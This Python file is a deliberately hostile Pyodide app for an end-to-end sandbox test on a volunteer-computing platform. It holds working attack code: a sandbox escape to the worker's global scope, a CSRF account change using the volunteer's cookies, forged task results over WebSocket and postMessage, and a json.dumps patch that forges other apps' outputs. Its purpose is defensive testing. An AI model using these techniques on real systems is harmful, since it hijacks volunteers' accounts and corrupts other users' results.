"""A hostile app for tests/e2e/test_hostile_app.py: it tries every way out of the compute
sandbox it can think of and keeps score in RESULTS; a later task of the same app (same
worker, same namespace) reports the score as its output.

Each outcome is "ok: …" (the attack worked), "blocked: …" (it failed), or "pending" (no
answer yet); "info: …" names a step whose effect the test checks on the server. Python
runs tasks synchronously, so answers to asynchronous attempts arrive between tasks; the
test waits before it asks for the report.
"""

import json

RESULTS = {}
STATE = {"attacked": False}


def record(name, outcome):
    RESULTS[name] = str(outcome)[:300]


def attempt(name, fn):
    try:
        record(name, f"ok: {fn()!r}"[:300])
    except BaseException as exc:  # noqa: BLE001 - every failure is a blocked attack
        record(name, f"blocked: {type(exc).__name__}: {exc}")


def restricted_js_module():
    """What `import js` hands app code: no way to the real global scope."""
    import js

    for name in ["self", "globalThis", "parent", "top", "window", "document", "fetch",
                 "XMLHttpRequest", "WebSocket", "importScripts", "location", "localStorage",
                 "sessionStorage", "indexedDB", "caches", "postMessage", "open", "navigator"]:
        attempt(f"js.{name}", lambda name=name: str(getattr(js, name))[:60])
    attempt("from js import fetch", lambda: __import__("js").fetch)


def attack(g, given):
    """g: the worker's real global scope, reached through setTimeout + capture_this."""
    from pyodide.ffi import create_proxy, to_js

    base, ws_url = given["base"], given["ws_url"]

    def obj(**fields):
        return to_js(fields, dict_converter=g.Object.fromEntries)

    def on_promise(name, promise, on_ok=None):
        record(name, "pending")

        def ok(value):
            try:
                record(name, "ok: " + (on_ok(value) if on_ok else str(value)[:200]))
            except BaseException as exc:  # noqa: BLE001
                record(name, f"ok (then failed: {exc})")

        def bad(error):
            record(name, f"blocked: {error}")

        promise.then(create_proxy(ok), create_proxy(bad))

    # Read the account page with the volunteer's cookies, then post its form with the CSRF
    # token found there: change the display name.
    def account_page(response):
        def read(text):
            record("fetch /me/account/ body", "ok: " + ("csrf token seen" if
                   "csrfmiddlewaretoken" in text else text[:80]))
            marker = 'name="csrfmiddlewaretoken" value="'
            if marker in text:
                token = text.split(marker, 1)[1].split('"', 1)[0]
                body = g.URLSearchParams.new(obj(csrfmiddlewaretoken=token, name="Pwned by an app"))
                on_promise("csrf post /me/account/", g.fetch(f"{base}/me/account/", obj(
                    method="POST", credentials="include", body=body)),
                    lambda r: f"HTTP {r.status}")
        response.text().then(create_proxy(read))
        return f"HTTP {response.status} {response.url}"

    attempt("fetch /me/account/", lambda: on_promise(
        "fetch /me/account/", g.fetch(f"{base}/me/account/", obj(credentials="include")),
        account_page))
    attempt("fetch /api/v1/apps/", lambda: on_promise(
        "fetch /api/v1/apps/", g.fetch(f"{base}/api/v1/apps/", obj(credentials="include")),
        lambda r: f"HTTP {r.status}"))
    attempt("csrf post without a token", lambda: on_promise(
        "csrf post without a token", g.fetch(f"{base}/me/account/", obj(
            method="POST", credentials="include",
            body=g.URLSearchParams.new(obj(name="Pwned without a token")))),
        lambda r: f"HTTP {r.status}"))

    def xhr():
        request = g.XMLHttpRequest.new()
        request.open("GET", f"{base}/me/account/", False)
        request.withCredentials = True
        request.send()
        return request.status
    attempt("sync XMLHttpRequest /me/account/", xhr)
    attempt("navigator.sendBeacon", lambda: g.navigator.sendBeacon(f"{base}/me/account/", "x")
            or (_ for _ in ()).throw(RuntimeError("refused")))

    # A volunteer socket of its own: a new device on the volunteer's account, and results.
    def socket():
        ws = g.WebSocket.new(ws_url)
        record("websocket", "pending")

        def opened(event):
            record("websocket", "ok: open")
            ws.send(json.dumps({"type": "hello", "protocol": 1, "device_token": None,
                                "client": {"name": "hostile", "version": "1"},
                                "capabilities": {"runtimes": ["pyodide"], "cores": 1,
                                                 "memory_mb": 512, "mobile": False}}))

        def message(event):
            frame = json.loads(event.data)
            if frame["type"] == "welcome":
                record("websocket welcome", f"ok: device {frame.get('device_id')}")
                ws.send(json.dumps({"type": "request", "slots": 4}))
            elif frame["type"] == "tasks":
                for task in frame["tasks"]:
                    ws.send(json.dumps({"type": "result", "task_id": task["task_id"],
                                        "status": "ok", "output": {"forged": True}}))
            elif frame["type"] == "ack":
                record("websocket forged result", f"ok: accepted={frame.get('accepted')}")

        def failed(event):
            if not RESULTS["websocket"].startswith("ok"):
                record("websocket", f"blocked: {event.type}")

        ws.onopen = create_proxy(opened)
        ws.onmessage = create_proxy(message)
        ws.onerror = create_proxy(failed)
        ws.onclose = create_proxy(failed)
    attempt("info: websocket constructor", socket)

    attempt("importScripts", lambda: g.importScripts(f"{base}/static/volunteer/device.js"))
    attempt("Function (eval)", lambda: g.Function.new("return 1")())
    attempt("nested Worker on the site", lambda: g.Worker.new(
        f"{base}/static/volunteer/compute-worker.js", obj(type="module")))
    def event_source():
        source = g.EventSource.new(f"{base}/me/")
        record("EventSource", "pending")
        source.onopen = create_proxy(lambda e: record("EventSource", "ok: open"))
        source.onerror = create_proxy(lambda e: (source.close(), record(
            "EventSource", "blocked: error event")))
    attempt("info: EventSource constructor", event_source)

    def idb():
        request = g.indexedDB.open("hostile")
        record("indexedDB", "pending")
        request.onsuccess = create_proxy(lambda e: record("indexedDB", "ok: opened"))
        request.onerror = create_proxy(lambda e: record("indexedDB", "blocked: error event"))
        return "requested"
    attempt("indexedDB.open", idb)
    attempt("caches.open", lambda: on_promise("caches", g.caches.open("hostile"),
                                              lambda c: "opened"))
    for name in ["localStorage", "sessionStorage", "document", "parent", "top", "opener"]:
        attempt(f"global {name}", lambda name=name: str(getattr(g, name))[:60])
    attempt("open a popup", lambda: g.open(f"{base}/"))
    attempt("navigate", lambda: setattr(g.location, "href", f"{base}/me/account/"))

    # Results for someone else's task, and a "ready" and "stage" out of turn, to the page.
    # Whether the page took them is for the server's rows to say (the test checks).
    attempt("info: postMessage a forged result", lambda: g.postMessage(obj(
        type="result", task_id=given["victim_task"], status="ok",
        outputJson='{"forged":true}', elapsed_ms=1)) or "posted")
    attempt("info: postMessage junk", lambda: [g.postMessage(x) for x in (
        "junk", 42, obj(type="ready", loadMs=-1, python="<img src=x>"),
        obj(type="stage", stage="<b>owned</b>"))] and "posted")

    async def py_fetch():
        # pyodide.http imports its JS names from the restricted `js` module: swap in the
        # real global scope, module and names.
        import sys

        import pyodide.http
        from pyodide.http import pyfetch

        sys.modules["js"] = g
        for name in ["AbortController", "AbortSignal", "fetch", "Headers", "Object", "Request",
                     "Response", "setTimeout", "clearTimeout"]:
            if hasattr(g, name):
                setattr(pyodide.http, name, getattr(g, name))
                setattr(sys.modules["pyodide.http._pyfetch"], name, getattr(g, name))
        sys.modules["pyodide.http._pyfetch"]._jsfetch = g.fetch

        response = await pyfetch(f"{base}/me/account/", credentials="include")
        return response.status
    record("pyodide.http.pyfetch", "pending")

    def pyfetch_done(future):
        try:
            record("pyodide.http.pyfetch", f"ok: HTTP {future.result()}")
        except BaseException as exc:  # noqa: BLE001
            record("pyodide.http.pyfetch", f"blocked: {type(exc).__name__}: {exc}")
    import asyncio
    asyncio.ensure_future(py_fetch()).add_done_callback(pyfetch_done)


def main(input):
    stage = input.get("stage")
    if stage == "big":
        return {"padding": "x" * input["bytes"]}
    if not STATE["attacked"]:
        STATE["attacked"] = True
        restricted_js_module()
        # Other owners' apps that run later in this runtime: forge their outputs.
        real_dumps = json.dumps

        def forging_dumps(value, *args, **kwargs):
            if isinstance(value, dict) and "iterations" in value:
                value = {**value, "forged": True}
            return real_dumps(value, *args, **kwargs)
        json.dumps = forging_dumps
        import js
        from pyodide.ffi import create_proxy

        def grab(this, *args):
            record("reach the global scope", f"ok: {this}"[:80])
            attack(this, input)
        js.setTimeout(create_proxy(grab, capture_this=True), 0)
    return {"stage": stage, "results": dict(RESULTS)}
